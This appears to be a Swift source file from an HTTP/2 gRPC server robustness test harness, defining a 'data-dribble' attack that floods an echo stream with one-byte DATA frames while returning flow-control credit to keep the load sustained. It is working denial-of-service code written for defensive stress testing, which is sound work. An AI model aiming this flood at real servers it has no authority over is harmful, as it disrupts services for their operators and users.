import PalisadeEcho

/// `data-dribble`: one `Echo/Chat` stream fed one byte per DATA frame, as fast as possible.
///
/// Each 6-byte gRPC message (prefix + 1 byte) arrives as six 1-byte DATA frames, so the server
/// pays frame, flow-control and wake-up overhead per byte, and echoes a message every six
/// frames. The attacker reads the echoes and returns their window (WINDOW_UPDATE on the stream
/// and the connection) so the echo never stalls, and respects the server's windows itself. No
/// particular reaction is required: the server must simply stay within its CPU and memory
/// bounds and keep serving the normal client.
struct DataDribbleAttack: BlockingAttacker {
    /// Frames per batch handed to the socket (10 bytes each on the wire).
    private static let framesPerBatch = 400

    /// Dribbles on one connection until the deadline (or 50 million frames in short mode).
    func attack(_ context: AttackContext) -> AttackReport {
        var report = AttackReport()
        guard let connection = context.openConnection(recordingFailureIn: &report) else { return report }
        let stream: UInt32 = 1
        var opening: [UInt8] = []
        let block = HPACKBlock.request(path: "/\(EchoService.service)/Chat", tls: context.usesTLS).bytes
        H2Frames.appendHeaders(stream: stream, fragment: block, endStream: false, endHeaders: true, to: &opening)
        connection.reader.windows.open(stream)
        connection.send(opening)
        report.streamsSent = 1
        let message = H2Frames.grpcMessage([UInt8(ascii: "x")])
        var index = 0
        var frames = 0
        let maxFrames = context.bound(full: 200_000_000, short: 50_000_000)
        while !context.isOver, connection.isOpen, frames < maxFrames {
            connection.readAvailable(limit: 256 << 10)
            connection.acknowledgeSettings()
            returnCredit(connection)
            let room = min(Self.framesPerBatch, connection.reader.windows.available(stream))
            guard connection.pendingOutbound < AttackConnection.queueLimit, room > 0 else {
                connection.pump(timeoutMs: 10, reading: true)
                continue
            }
            var batch: [UInt8] = []
            batch.reserveCapacity(room * 10)
            for _ in 0..<room {
                H2Frames.appendData(stream: stream, payload: CollectionOfOne(message[index]), endStream: false, to: &batch)
                index = (index + 1) % message.count
            }
            connection.reader.windows.spend(stream, room)
            connection.send(batch)
            frames += room
        }
        let echoes = connection.reader.dataBytes / message.count
        report.notes.append("\(frames.grouped) one-byte DATA frames, \(echoes.grouped) messages echoed")
        connection.drain()
        report.record(connection, cut: true)
        connection.close()
        return report
    }

    /// Gives back the window the echoes used, like a client that consumes what it receives.
    private func returnCredit(_ connection: AttackConnection) {
        let credit = connection.reader.takeCredit()
        guard !credit.isEmpty else { return }
        var frames: [UInt8] = []
        for (stream, count) in credit where count > 0 {
            H2Frames.appendWindowUpdate(stream: stream, increment: UInt32(count), to: &frames)
        }
        connection.send(frames)
    }
}
